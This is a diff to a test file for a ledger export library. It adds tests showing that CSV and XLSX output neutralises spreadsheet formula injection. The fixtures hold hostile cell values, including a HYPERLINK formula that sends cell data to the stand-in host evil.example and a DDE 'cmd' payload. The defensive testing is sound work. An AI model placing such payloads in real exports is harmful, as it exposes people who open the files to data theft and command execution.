@@ -1,5 +1,5 @@
 import ExcelJS from 'exceljs';
-import { LEDGER_LAYOUTS, toCsv, toMarkdown, toXlsx, yuanText } from '../src';
+import { BULLETIN_COLUMNS, LEDGER_LAYOUTS, toCsv, toMarkdown, toXlsx, yuanText } from '../src';
 
 const layout = LEDGER_LAYOUTS.business;
 const rows = [
@@ -40,6 +40,56 @@ describe('exports laid out like the paper ledgers', () => {
     expect(sheet.getCell(4, amountColumn).value).toBe(50_000.01);
     expect(sheet.getCell(6, 1).value).toBe('合计');
     expect(sheet.getCell(6, amountColumn).value).toBe(50_001);
+  });
+
+  const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', "-2+3+cmd|' /C calc'!A0", '@SUM(1,1)', '\t=1+1', '\r=1+1'];
+  const injected = hostile.map((name, i) => ({
+    loan_id: `L${i}`,
+    categories: i === 0 ? ['=1+1', 'woman'] : ['woman'],
+    project_name: name,
+    disbursed_amount: -5,
+    contract_rate_bp: -831,
+    status: 'disbursed',
+  }));
+
+  it('CSV: text a spreadsheet would take for a formula starts with a quote; figures, negative ones too, stay figures', () => {
+    const [, ...lines] = toCsv(layout.columns, injected).split('\r\n');
+    const names = layout.columns.findIndex((c) => c.key === 'project_name');
+    expect(lines[0].split(',')[2]).toBe("'=1+1、woman");
+    expect(lines[0]).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",`); // quoted: it has commas
+    expect(lines[1].split(',')[names]).toBe("'+1+1");
+    expect(lines[2].split(',')[names]).toBe("'-2+3+cmd|' /C calc'!A0");
+    expect(lines[3]).toContain(`,"'@SUM(1,1)",`);
+    expect(lines[4].split(',')[names]).toBe("'\t=1+1");
+    expect(lines[5]).toContain(`,"'\r=1+1",`);
+    for (const line of lines.slice(0, 6)) {
+      expect(line).toContain(',-0.05,');
+      expect(line).toContain(',-8.31%,');
+    }
+    // A negative count in the bulletin (a rank that fell) is a number, not text.
+    const bulletin = toCsv(BULLETIN_COLUMNS, [{ region: '=cmd', rank_change: -2 }])
+      .split('\r\n')[1]
+      .split(',');
+    expect(bulletin[0]).toBe("'=cmd");
+    expect(bulletin[BULLETIN_COLUMNS.findIndex((c) => c.key === 'rank_change')]).toBe('-2');
+    // Ordinary text is as it was.
+    expect(toCsv(layout.columns, rows).split('\r\n')[1]).toContain(',"Tea, ""green""",');
+  });
+
+  it('XLSX: such text is a plain string cell, never a formula; figures are numbers', async () => {
+    const book = new ExcelJS.Workbook();
+    await book.xlsx.load((await toXlsx(layout.title, '全部', layout.columns, injected)) as never);
+    const sheet = book.worksheets[0];
+    const names = layout.columns.findIndex((c) => c.key === 'project_name') + 1;
+    const amounts = layout.columns.findIndex((c) => c.key === 'disbursed_amount') + 1;
+    hostile.forEach((name, i) => {
+      const cell = sheet.getCell(4 + i, names);
+      expect(cell.type).toBe(ExcelJS.ValueType.String);
+      expect(cell.formula).toBeUndefined();
+      // Shown as the text it is (a quote here would only be a stray character); XML reads a carriage return as a line feed.
+      expect(cell.value).toBe(name.replace('\r', '\n'));
+      expect(sheet.getCell(4 + i, amounts).value).toBe(-0.05);
+    });
   });
 
   it('Markdown: a table with right-aligned figures', () => {
